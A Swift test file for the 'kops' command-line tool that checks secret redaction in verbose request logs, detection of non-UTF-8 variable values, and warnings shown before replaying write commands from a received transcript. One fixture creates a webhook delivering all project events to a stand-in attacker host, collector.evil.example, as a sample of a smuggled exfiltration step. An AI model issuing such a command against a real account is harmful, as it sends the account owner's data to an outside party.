@testable import KopsHTTP
import Testing
@testable import kops

/// What the launch itself reads and prints: `--var` values as their bytes arrived (probe29 P29-5) and the `--verbose`
/// request line (probe29 P29-11).
@Suite struct LaunchInputSafetyTests {
    /// A typed token or webhook secret searched for (`logs search EAA…`) was `<redacted>` in the echo, transcript and
    /// history, and printed in clear in the verbose request line's `?query=`.
    @Test(arguments: ["whsec_0123456789abcdef0123", "EAAGm0PX4ZCpsBAKZAZDtestTOKENabcdefghijklmnopqrstuv"])
    func theVerboseRequestLineRedactsATypedSecret(secret: String) {
        let exchange = HTTPExchange(
            method: "GET", url: "http://127.0.0.1:19553/platform/v1/log_search?query=\(secret)&limit=20",
            requestHeaders: ["X-API-Key: <redacted>"], status: 200, duration: 0.012, newConnection: true)
        let text = VerboseLog.text(exchange)
        #expect(!text.contains(secret), "\(text)")
        #expect(text.hasPrefix("> GET http://127.0.0.1:19553/platform/v1/log_search?query=<redacted>&limit=20\n"), "\(text)")
    }

    @Test func aVerboseURLWithoutSecretsIsShownAsItIs() {
        let url = "http://127.0.0.1:19553/platform/v1/whatsapp/messages?phone_number_id=100200300400501&limit=20"
        let exchange = HTTPExchange(method: "GET", url: url, requestHeaders: [], status: 200, duration: 0, newConnection: false)
        #expect(VerboseLog.text(exchange).hasPrefix("> GET \(url)\n"))
    }

    @Test func aVarValueThatIsNotUTF8IsNamedWithItsByteAndColumn() {
        let bytes = { (text: String) in Array(text.utf8) }
        #expect(RawVariables.problem([bytes("--var"), bytes("x=Ol") + [0xE1] + bytes(" var"), bytes("-c"), bytes("set")])
            == "invalid --var x: its value holds the byte 0xE1 (column 3), which is not UTF-8 (typed or saved as Latin-1 or "
                + "Windows-1252?); nothing ran: pass it as UTF-8")
        #expect(RawVariables.problem([bytes("--var=greeting=") + [0x80]])?.hasPrefix("invalid --var greeting: its value holds the byte 0x80 (column 1)") == true)
        // UTF-8 values, a Latin-1 byte in another flag's value, and a NAME with no value are not this check's.
        #expect(RawVariables.problem([bytes("--var"), bytes("x=Olá"), bytes("-c"), bytes("reply Ol") + [0xE1]]) == nil)
        #expect(RawVariables.problem([bytes("--var"), bytes("x")]) == nil)
    }
}

/// probe29 P29-10: `kops check` of a received transcript cut the held-back `webhooks create --url …` in the middle of
/// its URL and advised `--allow-writes` "sends it again"; following it created a webhook to the sender's host.
@Suite struct HeldBackWebhookLineTests {
    static let sendAgain = "kops check t.md --allow-writes"

    @Test func aWriteThatNamesADeliveryURLIsShownWholeWithWhatSendingItDoes() {
        let command = "webhooks create --url https://collector.evil.example/in --events all --scope project"
        let line = ScriptLaunch.notReplayedWrite(command, redacted: nil, sendAgain: Self.sendAgain)
        #expect(line == "'\(command)' changes data; its recorded output is kept. 'kops check t.md --allow-writes' would create "
            + "a webhook that delivers to collector.evil.example (https://collector.evil.example/in; events all, scope project): "
            + "run it only if that host is yours")
        #expect(!line.contains("sends it again"))
        let update = ScriptLaunch.notReplayedWrite(
            "webhooks update 4e5f6a7b-8c9d-4e0f-9a1b-3c4d5e6f7a80 --url=https://x.example/h", redacted: nil, sendAgain: Self.sendAgain)
        #expect(update.contains("would change webhook 4e5f6a7b-8c9d-4e0f-9a1b-3c4d5e6f7a80 to deliver to x.example (https://x.example/h)"), "\(update)")
    }

    @Test func anotherWriteKeepsItsShortLine() {
        let line = ScriptLaunch.notReplayedWrite("webhooks delete 4e5f6a7b-8c9d-4e0f-9a1b-3c4d5e6f7a80", redacted: nil, sendAgain: Self.sendAgain)
        #expect(line.hasSuffix("changes data; its recorded output is kept ('kops check t.md --allow-writes' sends it again)"))
    }
}
